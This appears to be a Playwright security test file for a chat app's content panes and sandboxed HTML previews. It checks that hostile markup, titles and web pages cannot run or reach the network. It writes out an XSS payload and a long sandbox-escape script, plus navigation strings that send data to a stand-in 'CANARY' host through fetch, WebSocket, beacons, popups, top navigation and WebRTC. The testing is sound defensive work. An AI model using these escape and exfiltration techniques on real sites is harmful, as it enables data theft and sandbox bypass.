"""Nothing that stands in a pane runs in the page, whatever kind it is, and none of it is asked of anyone.

But for web pages, whose frame rests on it, the browser is told to ignore the page's policy, so that it saves nobody.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Error, Frame, Page, expect

from tests.browser.canary import Canary, listening
from tests.browser.hostile_panes import LANGUAGES, PAYLOADS, TITLES
from tests.browser.panes import Panes, fenced, say
from tests.browser.visitor import Visit, Visitor

WATCH = """
if (window === top) window.__canary = () => { window.__ran = true; };
else window.__canary = () => {};
"""
"""In the page it tells; in a frame it may run, for there it has nothing to tell of."""

CREATE = """async ({conversation, panes}) => {
  const { access } = JSON.parse(sessionStorage.getItem("soma.tokens"));
  const headers = { authorization: `Bearer ${access}`, "content-type": "application/json" };
  const say = async (method, path, body) => {
    const answer = await fetch(path, { method, headers, body: JSON.stringify(body) });
    if (!answer.ok) throw new Error(`${answer.status} ${await answer.text()}`);
    return answer.json();
  };
  const made = [];
  for (const pane of panes) made.push((await say("POST", `/v1/${conversation}/panes`, pane)).name);
  const layout = { panes: made, active: made[0] };
  await say("PATCH", `/v1/${conversation}/layout?updateMask=panes,active`, layout);
}"""

STRANGE = """() => {
  const all = [...document.querySelectorAll(".panes *, .thread *, .sidebar *, dialog *")];
  const odd = "script,object,embed,form:not(dialog form),base,meta,link,style,math,video,audio,details,animate,marquee";
  const outside = (address) => !/^(https?:|mailto:)/i.test(address);
  return [
    ...all.filter((each) => each.matches(odd)),
    ...all.filter((each) => each.matches("svg") && !each.matches(".icon, .mark")),
    ...all.filter((each) => each.matches("img") && !/^data:image\\//.test(each.getAttribute("src"))),
    ...all.filter((each) => each.matches("iframe") && each.getAttribute("src") !== "/pane.html"),
    ...all.filter((each) => each.matches("iframe") && each.getAttribute("sandbox") !== "allow-scripts"),
    ...all.filter((each) => [...each.attributes].some(({name}) => /^on/.test(name))),
    ...all.filter((each) => each.matches("a[href]") && outside(each.href)),
    ...all.filter((each) => each.target === "_blank" && !/noopener/.test(each.rel)),
  ].map((each) => each.outerHTML.slice(0, 300));
}"""


@pytest.fixture
def canary() -> Iterator[Canary]:
    with listening() as canary:
        yield canary


@pytest.fixture
def target(visit: Visit) -> Visitor:
    """A member whose browser would run what got through."""
    return armed(visit("member@acme", bypass_csp=True))


def test_the_canary_sings_when_something_runs_or_is_asked_for(target: Visitor, canary: Canary) -> None:
    target.read(f"document.body.insertAdjacentHTML('beforeend', '<img src=//{canary.address}/ onerror=__canary()>')")
    target.page.wait_for_function("window.__ran === true")

    assert canary.heard == ["GET / HTTP/1.1"]
    assert target.read(STRANGE) == []


@pytest.mark.parametrize("kind", ["chat", "code", "log", "table"])
def test_hostile_text_is_shown_as_text(target: Visitor, canary: Canary, kind: str) -> None:
    texts = [canary.in_place(text) for text in PAYLOADS]
    together = ["\n\n".join(texts[n : n + 8]) for n in range(0, len(texts), 8)]
    rows = "\n".join(f"| {text} | b |" for text in texts if "\n" not in text)
    languages = LANGUAGES if kind == "code" else [""]
    bodies = [*together, f"| a | b |\n| --- | --- |\n{rows}"] if kind == "table" else together
    stand(target, [pane(kind, body, n, languages[n % len(languages)]) for n, body in enumerate(bodies)])

    for tab in target.see("pane-tab").all():
        tab.click()
        target.page.wait_for_timeout(60)
        is_harmless(target, canary)
    expect(target.see("pane")).to_be_visible()


def test_hostile_images_show_nothing_that_runs_and_load_nothing(target: Visitor, canary: Canary) -> None:
    texts = [canary.in_place(text) for text in PAYLOADS]
    stand(target, [pane("image", text, n, "svg" if n % 2 else "") for n, text in enumerate(texts)])

    for tab in target.see("pane-tab").all():
        tab.click()
        target.page.wait_for_timeout(40)
    is_harmless(target, canary)
    target.page.wait_for_timeout(300)
    is_harmless(target, canary)


def test_hostile_titles_and_file_names_are_only_words(target: Visitor, canary: Canary) -> None:
    stand(target, [{"kind": "code", "title": title, "text": "x", "language": "html"} for title in TITLES])
    panes = Panes(target)
    for n, title in enumerate(TITLES):
        panes.see("pane-tab").nth(n).click()
        expect(panes.see("pane-title")).to_have_text(title)
        name, bytes_ = panes.downloaded()
        assert bytes_ == b"x"
        assert name.endswith(".html")
        assert not set(name) & set("/\\<>\"'\u202e:")
        assert not name.startswith(".")
    panes.see("all-panes").click()
    expect(panes.see("pane-row")).to_have_count(len(TITLES))
    is_harmless(target, canary)


def test_hostile_answers_are_shown_in_chat_panes_and_history_and_never_run(target: Visitor, canary: Canary) -> None:
    for text in (TITLES[0], TITLES[1]):
        target.see("new-chat").click()
        target.ask(text).ends()
        expect(target.see("title")).to_have_text(text)
    texts = [canary.in_place(text) for text in PAYLOADS]
    hostile = "\n\n".join(texts)
    fences = "".join(fenced(text.replace("`", "'") + "\n", "html onload=x", TITLES[0]) for text in texts[:6])
    for markdown in (hostile, fences):
        target.ask(say(markdown)).ends()
    is_harmless(target, canary)
    target.page.reload()
    target.turn(0).ends()
    is_harmless(target, canary)


def test_hostile_edits_are_compared_and_kept_as_words(target: Visitor, canary: Canary) -> None:
    stand(target, [pane("code", "calm", 0, "html")])
    panes = Panes(target)
    panes.edit(canary.in_place("\n".join(PAYLOADS).replace("\r", "")))
    panes.see("show-changes").click()
    is_harmless(target, canary)
    panes.save(2)
    panes.see("show-history").click()
    panes.see("version").first.click()
    expect(panes.see("history").get_by_test_id("pane-text")).to_contain_text("<script>__canary()</script>")
    is_harmless(target, canary)


def test_hostile_web_pages_run_in_their_frame_alone(visit: Visit, canary: Canary) -> None:
    person = armed(visit("member@acme"))
    texts = [canary.in_place(text) for text in PAYLOADS]
    ends = "<!-- --></script></style></template></title></textarea>\n"
    together = [ends.join(texts[n : n + 6]) for n in range(0, len(texts), 6)]
    stand(person, [pane("html", text, n) for n, text in enumerate(together)])

    for tab in person.see("pane-tab").all():
        tab.click()
        expect(person.see("preview")).to_have_attribute("data-ready", "true")
        person.page.wait_for_timeout(150)
    assert person.read("window.__ran") is None
    assert person.read(STRANGE) == []
    assert canary.heard == []
    assert person.page.url.startswith(f"{person.url}/#/conversations/")
    assert len(person.page.context.pages) == 1


ESCAPES = """<!doctype html><title>Escapes</title><p id=out>running</p><a id=a target=_blank href=http://CANARY/a>a</a>
<form id=f action=http://CANARY/form method=post></form><form id=g action=http://CANARY/blank target=_blank></form>
<link rel=preconnect href=http://CANARY><link rel=prefetch href=http://CANARY/pre><link rel=icon href=http://CANARY/icon>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://CANARY/spec"]}]}</script>
<script>
const refused = {};
const attempt = async (name, deed) => {
  try { refused[name] = `done: ${await deed()}`; } catch (error) { refused[name] = "refused"; }
};
const late = () => new Promise((_, no) => setTimeout(() => no(new Error("late")), 1500));
const soon = (promise) => Promise.race([promise, late()]);
const loads = (element, how) => soon(new Promise((yes, no) => {
  element.onload = yes; element.onerror = no; how(element); document.body.append(element);
}));
(async () => {
  await attempt("parent document", () => parent.document.title);
  await attempt("top storage", () => top.sessionStorage.length);
  await attempt("opener", () => opener.document);
  await attempt("cookie", () => document.cookie);
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => soon(new Promise((yes, no) => {
    const asked = indexedDB.open("x"); asked.onsuccess = yes; asked.onerror = no; })));
  await attempt("caches", () => caches.open("x"));
  await attempt("fetch", () => soon(fetch("http://CANARY/fetch", { mode: "no-cors" })));
  await attempt("fetch of the mesh", () => soon(fetch("/v1/conversations")));
  await attempt("xhr", () => soon(new Promise((yes, no) => {
    const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", "http://CANARY/xhr"); x.send(); })));
  await attempt("image", () => loads(new Image(), (e) => (e.src = "http://CANARY/img")));
  await attempt("script", () => loads(document.createElement("script"), (e) => (e.src = "http://CANARY/s.js")));
  await attempt("import", () => soon(import("http://CANARY/m.js")));
  await attempt("frame", () => soon(new Promise((yes, no) => {
    const e = document.createElement("iframe");
    addEventListener("securitypolicyviolation", (v) => v.effectiveDirective.startsWith("frame") && no(v));
    e.onload = yes; e.src = "http://CANARY/frame"; document.body.append(e); })));
  await attempt("socket", () => soon(new Promise((yes, no) => {
    const s = new WebSocket("ws://CANARY/ws"); s.onopen = yes; s.onerror = no; })));
  await attempt("events", () => soon(new Promise((yes, no) => {
    const s = new EventSource("http://CANARY/sse"); s.onopen = yes; s.onerror = no; })));
  await attempt("worker", () => soon(new Promise((yes, no) => {
    const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://CANARY/w').then(()=>postMessage(1))"])));
    w.onmessage = yes; w.onerror = no; })));
  await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
  navigator.sendBeacon("http://CANARY/beacon", "x");
  document.body.style.backgroundImage = "url(http://CANARY/css)";
  await attempt("peer", () => soon(new Promise((yes, no) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY" }] });
    peer.createDataChannel("x"); peer.onicecandidate = ({ candidate }) => candidate || no(new Error("none"));
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(no); })));
  await attempt("popup", () => { if (!open("http://CANARY/popup")) throw new Error("no window"); });
  await attempt("link", () => { a.click(); throw new Error("told by the canary"); });
  await attempt("form", () => { f.submit(); g.submit(); throw new Error("told by the canary"); });
  await attempt("download", () => { a.download = "x"; a.click(); throw new Error("told by the canary"); });
  await attempt("top navigation", () => { top.location = "http://CANARY/top"; });
  await attempt("parent navigation", () => { parent.location.href = "http://CANARY/parent"; });
  await attempt("dialog", () => { if (confirm("x") !== true) throw new Error("no dialog"); });
  await attempt("fullscreen", () => document.documentElement.requestFullscreen());
  await attempt("clipboard", () => navigator.clipboard.readText());
  parent.postMessage({ soma: "ready" }, "*"); parent.postMessage({ soma: "pane", text: "x" }, "*");
  parent.postMessage("x", "*"); parent.postMessage(null, "*");
  out.textContent = JSON.stringify(refused);
})();
</script>"""


def test_a_web_page_in_a_pane_runs_and_reaches_nothing(visit: Visit, canary: Canary) -> None:
    person = armed(visit("member@acme"))
    stand(person, [pane("html", canary.in_place(ESCAPES), 0)])
    frame = framed(person.page)
    expect(frame.locator("#out")).to_contain_text("{", timeout=60_000)
    tried: dict[str, str] = frame.evaluate("refused")

    assert {name: how for name, how in tried.items() if how != "refused"} == {}
    assert len(tried) > 25
    assert frame.evaluate("origin") == "null"
    assert person.read("window.__ran") is None
    assert person.page.url.startswith(f"{person.url}/#/conversations/")
    assert len(person.page.context.pages) == 1
    assert canary.heard == []


PEER = "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:CANARY'}]}); p.createDataChannel('x'); "
PEER += "p.createOffer().then((offer) => p.setLocalDescription(offer))"


@pytest.mark.parametrize(
    "leaving",
    [
        "location = 'http://CANARY/away?secret'",
        "location.replace('http://CANARY/away')",
        "document.write('<meta http-equiv=refresh content=\"0;url=http://CANARY/away\">')",
        "const a = document.createElement('a'); a.href = 'http://CANARY/away'; document.body.append(a); a.click()",
        "location = 'data:text/html,<script>fetch(\"http://CANARY/data\")</script>'",
        "location = URL.createObjectURL(new Blob(['<img src=http://CANARY/blob>'], {type: 'text/html'}))",
        "const f = document.createElement('iframe'); f.srcdoc = '<img src=http://CANARY/doc>'; document.body.append(f)",
        f"const f = document.createElement('iframe'); f.srcdoc = `<script>{PEER}<\\/script>`; document.body.append(f)",
        PEER,
    ],
)
def test_a_web_page_in_a_pane_cannot_leave_for_another_address(visit: Visit, canary: Canary, leaving: str) -> None:
    person = armed(visit("member@acme"))
    page = canary.in_place(f"<body>here<script>setTimeout(() => {{ {leaving} }}, 300)</script>")
    crashes: list[Page] = []
    person.page.on("crash", lambda page: crashes.append(page))
    try:
        stand(person, [pane("html", page, 0)])
        person.page.wait_for_timeout(1_300)
    except (AssertionError, Error):
        if not crashes:  # a browser may end the whole tab of a page that goes so far
            raise

    assert canary.heard == []
    if crashes:
        return
    assert person.read("window.__ran") is None
    assert person.page.url.startswith(f"{person.url}/#/conversations/")
    expect(person.see("preview-note")).to_have_text("The preview cannot reach the network or this page.Run again")


def test_a_web_page_that_brought_the_tab_down_is_not_run_again_by_itself(visit: Visit) -> None:
    person = visit("member@acme")
    stand(person, [pane("html", "<p>heavy</p>", 0)])
    expect(person.see("preview")).to_have_attribute("data-ready", "true")
    person.page.reload()
    expect(person.see("preview")).to_have_attribute("data-ready", "true")
    running, address = person.read("({...sessionStorage})"), person.page.url
    person.page.goto(f"{person.url}/oidc/jwks")  # the same origin, and no page
    person.page.evaluate("left => Object.assign(sessionStorage, left)", running)  # as a tab that was ended leaves it
    person.page.goto(address)

    expect(person.see("preview-held")).to_be_visible()
    person.see("show-source").click()
    Panes(person).holds("<p>heavy</p>")
    person.see("show-preview").click()
    person.see("preview-held").get_by_role("button").click()
    expect(person.see("preview")).to_have_attribute("data-ready", "true")


def pane(kind: str, text: str, number: int, language: str = "") -> dict[str, str]:
    return {"kind": kind, "title": f"{kind} {number}", "text": text.replace("\0", ""), "language": language}


def armed(person: Visitor) -> Visitor:
    person.page.add_init_script(WATCH)
    person.page.reload()
    expect(person.see("composer")).to_be_visible()
    return person


def stand(person: Visitor, panes: list[dict[str, Any]]) -> None:
    """A conversation with these panes, all open."""
    person.ask("hello").ends()
    conversation = person.page.url.partition("#/")[2]
    person.page.evaluate(CREATE, {"conversation": conversation, "panes": panes})
    person.page.reload()
    expect(person.see("pane-tab")).to_have_count(len(panes))
    expect(person.see("pane")).to_be_visible()


def framed(page: Page) -> Frame:
    expect(page.get_by_test_id("preview")).to_have_attribute("data-ready", "true")
    return next(frame for frame in page.frames if frame.parent_frame is page.main_frame)


def is_harmless(person: Visitor, canary: Canary) -> None:
    assert person.read("window.__ran") is None
    assert person.read(STRANGE) == []
    assert canary.heard == []
    assert len(person.page.context.pages) == 1
    own = (f"{person.url}/", "data:", "blob:")
    assert [request.url for request in person.noise.requests if not request.url.startswith(own)] == []
